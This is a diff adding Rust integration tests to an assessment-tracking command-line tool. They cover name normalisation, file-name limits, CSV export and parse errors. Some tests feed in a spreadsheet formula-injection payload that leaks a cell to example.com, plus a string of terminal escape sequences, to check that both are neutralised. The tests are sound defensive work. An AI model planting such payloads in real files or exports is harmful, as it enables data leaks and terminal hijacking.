@@ -164,6 +164,75 @@ fn new_creates_a_file_in_the_home_and_list_shows_it() {
 }
 
 #[test]
+fn new_normalises_the_name_so_an_accent_typed_either_way_is_one_name() {
+    use unicode_normalization::UnicodeNormalization;
+    let home = tempfile::tempdir().unwrap();
+    let decomposed = "Sia\u{302}n Jones";
+    let composed = "Si\u{e2}n Jones";
+    assert_ne!(decomposed, composed);
+    let first = create(home.path(), "senior-leadership", decomposed);
+    assert_eq!(first.file_name().unwrap(), "si\u{e2}n-jones.ron");
+    let stored = store::load_assessment(&first).unwrap().person.name;
+    assert_eq!(stored, composed, "the name is kept in NFC");
+    assert_eq!(stored.nfc().collect::<String>(), stored);
+    // The same name typed the other way is the same name: the next free file.
+    let second = create(home.path(), "senior-leadership", composed);
+    assert_eq!(second.file_name().unwrap(), "si\u{e2}n-jones-2.ron");
+}
+
+#[test]
+fn new_refuses_a_file_name_too_long_for_its_side_files() {
+    let home = tempfile::tempdir().unwrap();
+    let dir = home.path().join("elsewhere");
+    std::fs::create_dir(&dir).unwrap();
+    // 204 bytes: a valid name, but `.NAME.conflict-TIME.ron` and the
+    // temporary files of rescue copies would pass 255.
+    let long = dir.join(format!("{}.ron", "\u{e9}".repeat(100)));
+    let o = reflect_in(
+        home.path(),
+        &[
+            "new",
+            "--framework",
+            "senior-leadership",
+            "--name",
+            "Sam",
+            "--file",
+            long.to_str().unwrap(),
+        ],
+    );
+    assert!(!o.status.success(), "{}", stdout(&o));
+    let err = stderr(&o);
+    assert!(
+        err.contains(&long.display().to_string()),
+        "names the path: {err}"
+    );
+    assert!(err.contains("too long"), "{err}");
+    assert!(err.contains("255"), "{err}");
+    assert_eq!(
+        std::fs::read_dir(&dir).unwrap().count(),
+        0,
+        "nothing created"
+    );
+
+    // The longest name that leaves room is taken.
+    let longest = dir.join(format!("{}.ron", "a".repeat(172)));
+    let o = reflect_in(
+        home.path(),
+        &[
+            "new",
+            "--framework",
+            "senior-leadership",
+            "--name",
+            "Sam",
+            "--file",
+            longest.to_str().unwrap(),
+        ],
+    );
+    assert_ok(&o);
+    assert!(longest.is_file());
+}
+
+#[test]
 fn list_of_an_empty_home_says_how_to_start() {
     let home = tempfile::tempdir().unwrap();
     let o = reflect_in(home.path(), &["list"]);
@@ -298,6 +367,102 @@ fn export_to_a_file_is_private_and_matches_stdout() {
         let mode = std::fs::metadata(&out).unwrap().permissions().mode();
         assert_eq!(mode & 0o077, 0, "export is private: {mode:o}");
     }
+}
+
+/// An assessment whose first standard's note at its first stage is `note`,
+/// with that standard's id and stage.
+fn with_first_note(home: &Path, note: &str) -> (PathBuf, String, String) {
+    let path = create(home, "senior-leadership", "Sam Formula");
+    let fw = framework("senior-leadership");
+    let (_, standard) = fw.standards().next().expect("a standard");
+    let stage = fw.stages_of(standard).next().expect("a stage");
+    edit(&path, |a| {
+        let mark = a.current_mut().mark_mut(&standard.id, &stage.id);
+        mark.rating = Rating::Level(2);
+        mark.note = note.to_owned();
+    });
+    (path, standard.id.clone(), stage.name.clone())
+}
+
+/// The `note` field of the row for `standard` at `stage`.
+fn note_of(rows: &[Vec<String>], standard: &str, stage: &str) -> String {
+    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    rows[1..]
+        .iter()
+        .find(|r| r[col("standard_id")] == standard && r[col("stage")] == stage)
+        .expect("the row")[col("note")]
+    .clone()
+}
+
+#[test]
+fn export_guards_a_formula_unless_raw() {
+    let home = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")";
+    let (path, id, stage) = with_first_note(home.path(), formula);
+    let p = path.to_str().unwrap();
+
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv"]);
+    assert_ok(&o);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));
+
+    // The same guard in a file written with --output.
+    let out = home.path().join("out.csv");
+    let o = reflect_in(
+        home.path(),
+        &[
+            "export",
+            p,
+            "--format",
+            "csv",
+            "--output",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert_ok(&o);
+    let rows = parse_csv(&std::fs::read_to_string(&out).unwrap());
+    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));
+
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--raw"]);
+    assert_ok(&o);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(note_of(&rows, &id, &stage), formula);
+}
+
+#[test]
+fn export_bom_starts_with_a_byte_order_mark() {
+    let home = tempfile::tempdir().unwrap();
+    let (path, id, stage) = with_first_note(home.path(), "Siân's note, with an accent");
+    let p = path.to_str().unwrap();
+    let plain = reflect_in(home.path(), &["export", p, "--format", "csv"]);
+    assert_ok(&plain);
+    assert!(!plain.stdout.starts_with(b"\xEF\xBB\xBF"));
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--bom"]);
+    assert_ok(&o);
+    assert_eq!(o.stdout[..3], *b"\xEF\xBB\xBF");
+    assert_eq!(o.stdout[3..], plain.stdout[..]);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(
+        rows[0][0], "framework",
+        "the mark is not part of the first cell"
+    );
+    assert_eq!(note_of(&rows, &id, &stage), "Siân's note, with an accent");
+
+    let out = home.path().join("bom.csv");
+    let o = reflect_in(
+        home.path(),
+        &[
+            "export",
+            p,
+            "--format",
+            "csv",
+            "--bom",
+            "--output",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert_ok(&o);
+    assert!(std::fs::read(&out).unwrap().starts_with(b"\xEF\xBB\xBF"));
 }
 
 #[test]
@@ -1116,4 +1281,382 @@ fn restore_refuses_while_the_file_is_open_and_a_backup_that_does_not_read() {
         before,
         "untouched throughout"
     );
+}
+
+// ------------------------------------------- what reaches the terminal
+
+/// What a hostile file might hold to take over a terminal: an OSC that
+/// retitles the window and rings the bell, a CSI that clears the screen,
+/// a C1 CSI, a backspace, DEL and a lone carriage return.
+const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{8}\u{7f}\rX";
+
+/// No control character but line breaks: nothing that could start an
+/// escape sequence, move the cursor or ring the bell.
+#[track_caller]
+fn assert_printable(what: &str, text: &str) {
+    if let Some(c) = text
+        .chars()
+        .find(|&c| c.is_control() && c != '\n' && c != '\r')
+    {
+        panic!("{what} holds the control character {c:?}:\n{text:?}");
+    }
+    assert!(
+        !text.replace("\r\n", "").contains('\r'),
+        "{what} holds a carriage return that is not a line end:\n{text:?}"
+    );
+}
+
+#[test]
+fn reports_print_no_escape_sequences_from_the_file() {
+    let home = tempfile::tempdir().unwrap();
+    let path = two_reviews(home.path());
+    let [(s1, st1), _] = two_pairs();
+    edit(&path, |a| {
+        a.person.name = format!("Sam{HOSTILE}");
+        a.person.role = format!("Role{HOSTILE}");
+        let r = a.current_mut();
+        r.title = format!("Annual{HOSTILE}");
+        let coach = r.raters[0].id.clone();
+        r.raters[0].name = format!("Pat{HOSTILE}");
+        r.set_note(&s1, &st1, &format!("note{HOSTILE}")).unwrap();
+        r.set_view_note(&s1, &st1, &coach, &format!("coach{HOSTILE}"))
+            .unwrap();
+    });
+    let p = path.to_str().unwrap();
+    for args in [
+        &["summary", p][..],
+        &["summary", p, "--review", "1"],
+        &["summary", p, "--compare"],
+        &["review", "list", p],
+        &["list"],
+        &["backups", p],
+    ] {
+        let o = reflect_in(home.path(), args);
+        assert_ok(&o);
+        let out = stdout(&o);
+        assert_printable(&format!("reflect {}", args.join(" ")), &out);
+        assert_printable(&format!("reflect {} (stderr)", args.join(" ")), &stderr(&o));
+    }
+    let o = reflect_in(home.path(), &["summary", p]);
+    assert!(
+        stdout(&o).contains("pwned"),
+        "the text is shown, made harmless"
+    );
+
+    // Starting a review names the one it closes.
+    let o = reflect_in(
+        home.path(),
+        &[
+            "review",
+            "start",
+            p,
+            "--title",
+            "Next",
+            "--date",
+            "2028-01-01",
+        ],
+    );
+    assert_ok(&o);
+    assert!(stdout(&o).contains("Annual"));
+    assert_printable("reflect review start", &stdout(&o));
+
+    // Export to a pipe or a file is data: kept exactly, escapes and all.
+    let o = reflect_in(
+        home.path(),
+        &["export", p, "--format", "csv", "--review", "2", "--raw"],
+    );
+    assert_ok(&o);
+    let rows = parse_csv(&stdout(&o));
+    assert!(
+        rows.iter()
+            .flatten()
+            .any(|cell| *cell == format!("note{HOSTILE}"))
+    );
+}
+
+#[test]
+fn errors_print_no_escape_sequences_from_the_file() {
+    let home = tempfile::tempdir().unwrap();
+    let path = two_reviews(home.path());
+    let p = path.to_str().unwrap();
+    // A single review whose title is hostile, refused by --compare.
+    let single = create(home.path(), "senior-leadership", "Single");
+    edit(&single, |a| {
+        a.current_mut().title = format!("Only{HOSTILE}")
+    });
+    let o = reflect_in(
+        home.path(),
+        &["summary", single.to_str().unwrap(), "--compare"],
+    );
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("Only"), "{}", stderr(&o));
+    assert_printable("the --compare refusal", &stderr(&o));
+
+    // A framework id no reflect knows.
+    edit(&path, |a| a.framework.id = format!("fw{HOSTILE}"));
+    for args in [
+        &["summary", p][..],
+        &["review", "list", p],
+        &["export", p, "--format", "csv"],
+    ] {
+        let o = reflect_in(home.path(), args);
+        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
+        assert!(stderr(&o).contains("pwned"), "{}", stderr(&o));
+        assert_printable(&format!("reflect {} (stderr)", args.join(" ")), &stderr(&o));
+    }
+    let o = reflect_in(home.path(), &["list"]);
+    assert_printable("reflect list", &stdout(&o));
+
+    // A file that does not parse, around a hostile string.
+    std::fs::write(&path, format!("(schema: 2, \"{HOSTILE}\" oops)")).unwrap();
+    let o = reflect_in(home.path(), &["summary", p]);
+    assert_eq!(o.status.code(), Some(2));
+    assert_printable("a parse error", &stderr(&o));
+}
+
+#[test]
+fn export_to_a_terminal_prints_no_escape_sequences() {
+    use portable_pty::{CommandBuilder, PtySize, native_pty_system};
+    use std::io::Read;
+
+    let home = tempfile::tempdir().unwrap();
+    let (path, ..) = with_first_note(home.path(), &format!("line one{HOSTILE}\nline two"));
+    let pty = native_pty_system()
+        .openpty(PtySize {
+            rows: 50,
+            cols: 200,
+            pixel_width: 0,
+            pixel_height: 0,
+        })
+        .expect("a pseudo-terminal");
+    let mut cmd = CommandBuilder::new(env!("CARGO_BIN_EXE_reflect"));
+    cmd.args(["--home", home.path().to_str().unwrap()]);
+    cmd.args(["export", path.to_str().unwrap(), "--format", "csv", "--raw"]);
+    cmd.env_remove("REFLECT_HOME");
+    let mut child = pty.slave.spawn_command(cmd).expect("reflect starts");
+    drop(pty.slave);
+    let mut reader = pty.master.try_clone_reader().unwrap();
+    let collect = std::thread::spawn(move || {
+        let mut out = Vec::new();
+        let mut buf = [0u8; 8192];
+        while let Ok(n) = reader.read(&mut buf) {
+            if n == 0 {
+                break;
+            }
+            out.extend_from_slice(&buf[..n]);
+        }
+        out
+    });
+    assert!(child.wait().unwrap().success());
+    drop(pty.master);
+    let out = String::from_utf8(collect.join().unwrap()).unwrap();
+    assert!(out.contains("line one"), "{out:?}");
+    assert!(out.contains("pwned"), "{out:?}");
+    // The terminal turns each \n into \r\n; nothing else may be a control.
+    assert_printable("export to a terminal", &out.replace("\r\r\n", "\r\n"));
+}
+
+// ------------------------------------------------------ keys given twice
+
+/// An assessment whose current review's marks are `marks`, written from
+/// line 9 on, one entry a line, each indented by 8 spaces.
+fn with_marks(dir: &Path, marks: &[&str]) -> PathBuf {
+    let path = dir.join("twice.ron");
+    let mut text = String::from(
+        "(\n  schema: 2,\n  framework: (id: \"senior-leadership\", version: \"2025.1\"),\n  \
+         person: (name: \"Sam Twice\"),\n  reviews: [\n    (\n      title: \"2026 review\",\n      \
+         date: \"2026-01-01\",\n      marks: {\n",
+    );
+    for m in marks {
+        text.push_str(&format!("        {m},\n"));
+    }
+    text.push_str("      },\n    ),\n  ],\n)\n");
+    std::fs::write(&path, text).unwrap();
+    path
+}
+
+#[test]
+fn a_standard_twice_in_marks_is_an_error_at_the_second() {
+    let home = tempfile::tempdir().unwrap();
+    let path = with_marks(
+        home.path(),
+        &[
+            r#""sl.place.1": {"knowledge": (rating: Level(2))}"#,
+            r#""sl.place.2": {"knowledge": (rating: Level(3))}"#,
+            r#""sl.place.1": {"experience": (rating: Level(4))}"#,
+        ],
+    );
+    let before = std::fs::read(&path).unwrap();
+    for args in [
+        &["summary"][..],
+        &["export", "--format", "csv"],
+        &["review", "list"],
+    ] {
+        let mut args = args.to_vec();
+        args.insert(
+            args.len().min(if args[0] == "review" { 2 } else { 1 }),
+            path.to_str().unwrap(),
+        );
+        let o = reflect_in(home.path(), &args);
+        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stdout(&o));
+        let err = stderr(&o);
+        let first = err.lines().next().unwrap();
+        assert!(
+            first.starts_with(&format!("{}:12:9: ", path.display())),
+            "at the second \"sl.place.1\": {err}"
+        );
+        assert!(first.contains("sl.place.1"), "{err}");
+        assert!(first.contains("twice"), "{err}");
+    }
+    assert_eq!(
+        std::fs::read(&path).unwrap(),
+        before,
+        "the file is left alone"
+    );
+}
+
+#[test]
+fn a_stage_twice_under_one_standard_is_an_error_at_the_second() {
+    let home = tempfile::tempdir().unwrap();
+    let path = with_marks(
+        home.path(),
+        &[
+            r#""sl.place.1": {"knowledge": (rating: Level(2)), "experience": (rating: Level(3)), "knowledge": (note: "mine")}"#,
+        ],
+    );
+    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert!(
+        err.starts_with(&format!("{}:10:91: ", path.display())),
+        "at the second \"knowledge\": {err}"
+    );
+    assert!(err.contains("knowledge"), "{err}");
+}
+
+#[test]
+fn validate_refuses_a_rename_given_twice() {
+    let home = tempfile::tempdir().unwrap();
+    let text = include_str!("../data/frameworks/senior-leadership.ron");
+    let at = text.rfind("\n)").expect("the framework's closing bracket");
+    let mut framework = text[..at].to_owned();
+    if !framework.trim_end().ends_with(',') {
+        framework.push(',');
+    }
+    let line = framework.lines().count() + 2;
+    framework.push_str(
+        "\n  renames: {\n    \"sl.old\": \"sl.place.1\",\n    \"sl.old\": \"sl.place.2\",\n  },\n)\n",
+    );
+    let path = home.path().join("twice.ron");
+    std::fs::write(&path, &framework).unwrap();
+    let o = reflect_in(home.path(), &["validate", path.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
+    let err = stderr(&o);
+    assert!(
+        err.starts_with(&format!("{}:{}:5: ", path.display(), line + 1)),
+        "at the second \"sl.old\": {err}"
+    );
+    assert!(err.contains("sl.old"), "{err}");
+}
+
+// ------------------------------------------------- levels off the scale
+
+#[test]
+fn a_level_off_the_scale_is_an_error_where_it_is() {
+    let home = tempfile::tempdir().unwrap();
+    let entry = r#""sl.place.1": {"knowledge": (rating: Level(2)), "judgement": (rating: Level(9), note: "nine")}"#;
+    let path = with_marks(
+        home.path(),
+        &[r#""sl.place.2": {"knowledge": (rating: Level(3))}"#, entry],
+    );
+    let col = 8 + entry.find("Level(9)").unwrap() + 1;
+    let before = std::fs::read(&path).unwrap();
+    let p = path.to_str().unwrap();
+    // The commands that read, and the app, which opens it before the terminal.
+    for args in [&["summary", p][..], &["export", p, "--format", "csv"], &[p]] {
+        let o = reflect_in(home.path(), args);
+        assert_eq!(o.status.code(), Some(2), "{args:?}: {}", stdout(&o));
+        let err = stderr(&o);
+        assert!(
+            err.starts_with(&format!("{}:11:{col}: ", path.display())),
+            "{args:?}: at Level(9): {err}"
+        );
+        assert!(err.contains('9') && err.contains("scale"), "{err}");
+    }
+    assert_eq!(
+        std::fs::read(&path).unwrap(),
+        before,
+        "the file is left alone"
+    );
+
+    // Another rater's level and an agreed level are checked too.
+    let entry = r#""sl.place.1": {"knowledge": (rating: Level(2), agreed: Level(0))}"#;
+    let path = with_marks(home.path(), &[entry]);
+    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(2));
+    let col = 8 + entry.find("Level(0)").unwrap() + 1;
+    assert!(
+        stderr(&o).starts_with(&format!("{}:10:{col}: ", path.display())),
+        "{}",
+        stderr(&o)
+    );
+}
+
+#[test]
+fn a_level_off_the_scale_in_a_closed_review_is_an_error_in_its_own_file() {
+    let home = tempfile::tempdir().unwrap();
+    let path = two_reviews(home.path());
+    let reviews = path.with_extension("reviews");
+    let closed = std::fs::read_dir(&reviews)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.extension().is_some_and(|x| x == "ron"))
+        .expect("the closed review's file");
+    let text = std::fs::read_to_string(&closed).unwrap();
+    let at = text.find("Level(2)").expect("the closed review's level 2");
+    std::fs::write(&closed, text.replacen("Level(2)", "Level(7)", 1)).unwrap();
+    let line = text[..at].matches('\n').count() + 1;
+    let col = at - text[..at].rfind('\n').map_or(0, |i| i + 1) + 1;
+    let o = reflect_in(home.path(), &["summary", path.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(2), "{}", stdout(&o));
+    assert!(
+        stderr(&o).starts_with(&format!("{}:{line}:{col}: ", closed.display())),
+        "{}",
+        stderr(&o)
+    );
+}
+
+/// `reflect FILE` with no terminal checks the file and stops: a file that
+/// opening would bring up to date with its framework is left exactly as it
+/// was, with no lock, no backup and nothing remembered.
+#[test]
+fn opening_without_a_terminal_migrates_and_writes_nothing() {
+    let home = tempfile::tempdir().unwrap();
+    let fw = reflect::model::bundled::by_id("senior-leadership")
+        .unwrap()
+        .unwrap();
+    let store_home = reflect::store::Home::at(home.path());
+    let path = reflect::store::new_assessment(&store_home, &fw, "Jo", "", None).unwrap();
+    let text = std::fs::read_to_string(&path).unwrap();
+    let old = text.replace(
+        &format!("version: \"{}\"", fw.version),
+        "version: \"0.1-older\"",
+    );
+    assert_ne!(old, text, "the framework version is in the file");
+    std::fs::write(&path, &old).unwrap();
+    let before: Vec<_> = std::fs::read_dir(home.path().join("assessments"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    let o = reflect_in(home.path(), &[path.to_str().unwrap()]);
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    assert!(stderr(&o).contains("needs a terminal"), "{}", stderr(&o));
+    assert_eq!(std::fs::read_to_string(&path).unwrap(), old);
+    let after: Vec<_> = std::fs::read_dir(home.path().join("assessments"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    assert_eq!(after, before, "no lock, backup or other file made");
+    assert!(!home.path().join("state.ron").exists());
+    assert!(!home.path().join("backups").exists());
 }
